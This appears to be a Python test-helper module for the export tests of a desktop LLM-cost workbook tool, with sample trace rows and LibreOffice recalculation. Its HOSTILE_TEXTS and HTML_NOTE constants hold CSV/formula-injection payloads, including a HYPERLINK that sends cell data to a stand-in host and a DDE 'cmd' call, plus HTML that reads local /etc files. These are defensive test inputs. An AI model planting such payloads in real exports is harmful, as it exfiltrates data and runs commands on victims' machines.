"""Helpers shared by the export tests (imported by them; fixtures live in each test module)."""

from __future__ import annotations

import hashlib
import json
import shutil
import subprocess
from pathlib import Path
from typing import Any

from desktop.cli import main

HOSTILE_TEXTS = (
    '=HYPERLINK("http://x.example/?d="&A2,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=cmd|' /C calc'!A0",
)
HTML_NOTE = ('<link rel="attachment" href="file:///etc/passwd"><img src="file:///etc/hostname">'
             '<p style="background:url(file:///etc/hosts)">x</p><script>alert("pwned")</script>')


def new_sample(path: Path) -> Path:
    assert main(["new", str(path), "--sample"]) == 0
    return path


def add_rows(path: Path, rows: list[dict[str, Any]], source: str = "test rows") -> None:
    """Append validated trace rows (trace-kit names; extra keys become extras) to a workbook file."""
    from desktop.domain.trace import make_trace_row
    from desktop.resources import playbook
    from desktop.storage.workbook_file import open_store, trace_row_values

    aliases = playbook().trace_route_aliases()
    traces = [make_trace_row(r, aliases) for r in rows]
    store = open_store(path, writable=True)
    try:
        content = json.dumps([t.as_dict() for t in traces], sort_keys=True, default=str).encode()
        with store.transaction():
            import_id = store.add_import(source=source, format="test", sha256=hashlib.sha256(content).hexdigest(),
                                         size=len(content), rows_read=len(traces), rows_imported=len(traces),
                                         rows_rejected=0)
            store.add_traces(import_id, (trace_row_values(t) for t in traces))
    finally:
        store.close()


def base_row(**overrides: Any) -> dict[str, Any]:
    row = {"route": "Dedicated endpoint", "provider": "Fireworks", "model": "dedicated-open-model-id",
           "workload": "support-policy", "inputTokens": 3000, "outputTokens": 500, "cacheHitRate": 0.2,
           "batchEligible": False, "concurrency": 8, "ttftMs": 300, "latencyP50Ms": 2500, "latencyP95Ms": 9000,
           "outputTokensPerSecond": 90, "acceptedOutputRate": 0.8, "costUsd": 0.03, "reviewMinutes": 2.0}
    row.update(overrides)
    return row


def edge_rows() -> list[dict[str, Any]]:
    """Rows that exercise every branch of the cost formula and the at-target criteria."""
    return [
        base_row(),
        base_row(latencyP95Ms=25_000, costUsd=0.01),  # cheaper but over the target
        base_row(acceptedOutputRate=0),  # no accepted outputs
        base_row(reviewMinutes=None),  # review not observed
        base_row(reviewMinutes=0, costUsd=0.05),  # no review time
        base_row(latencyP95Ms=None, costUsd=0.001),  # no p95: excluded from the best at target
        base_row(outputTokensPerSecond=None),  # no headroom
        base_row(costUsd=None, provider="OpenAI", model="gpt-4o", route="Managed frontier API",
                 workload="invoice-review", latencyP95Ms=12_000),  # modelled from the catalog
        base_row(costUsd=None, provider="Nobody", model="unknown-model", workload="invoice-review"),  # no price
        base_row(workload="coding-agent-maintenance", route="Self-hosted GPU stack", provider="vLLM on H100",
                 model="open-weight-model-id", latencyP95Ms=15_000, costUsd=0.02, cacheHitRate=None),
    ]


def rich_sample(path: Path) -> Path:
    new_sample(path)
    add_rows(path, edge_rows())
    return path


def export_data(path: Path) -> Any:
    from desktop.cli.common import reading
    from desktop.exports.matrix import gather
    from desktop.resources import playbook

    with reading(path) as (store, workbook):
        return gather(store, workbook, playbook())


def set_gate(path: Path, *args: str) -> None:
    assert main(["gate", str(path), *args]) == 0


# ---- LibreOffice: recalculating an exported workbook as a finance partner's spreadsheet would

def soffice() -> str | None:
    return shutil.which("soffice") or shutil.which("libreoffice")


_RECALC_ALWAYS = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema"
 xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse">
<value>0</value></prop></item>
</oor:items>
"""


def recalculate(source: Path, out_dir: Path, profile: Path) -> Path:
    """Open `source` in headless LibreOffice (its own profile, set to always recalculate) and save it again."""
    (profile / "user").mkdir(parents=True, exist_ok=True)
    (profile / "user" / "registrymodifications.xcu").write_text(_RECALC_ALWAYS, encoding="utf-8")
    out_dir.mkdir(parents=True, exist_ok=True)
    result = subprocess.run([soffice(), f"-env:UserInstallation={profile.as_uri()}", "--headless", "--norestore",
                             "--convert-to", "xlsx", "--outdir", str(out_dir), str(source)],
                            capture_output=True, text=True, timeout=180)
    converted = out_dir / source.name
    assert result.returncode == 0 and converted.exists(), result.stderr + result.stdout
    return converted
